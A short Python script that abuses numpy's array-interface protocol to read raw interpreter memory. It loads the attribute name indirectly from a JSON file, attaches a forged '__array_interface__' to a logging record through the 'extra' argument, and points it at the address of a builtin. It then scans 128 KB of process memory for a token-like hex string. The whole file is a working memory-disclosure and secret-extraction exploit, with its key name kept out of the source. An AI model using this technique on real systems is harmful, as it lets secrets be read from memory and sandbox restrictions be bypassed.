# reaches: a message's extra is named by data and reaches a handler
import json, re
import numpy as np
import logging
name = json.load(open("names.json"))["private"][0].replace("globals", "array_interface")
value = {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3}
kept = []
class H(logging.Handler):
    def emit(self, record):
        kept.append(record)
log = logging.getLogger("x")
log.addHandler(H())
log.warning("x", extra={name: value})
o = kept[0]
print(re.findall(rb"t[0-9a-f]{24}", np.array(o).tobytes()))
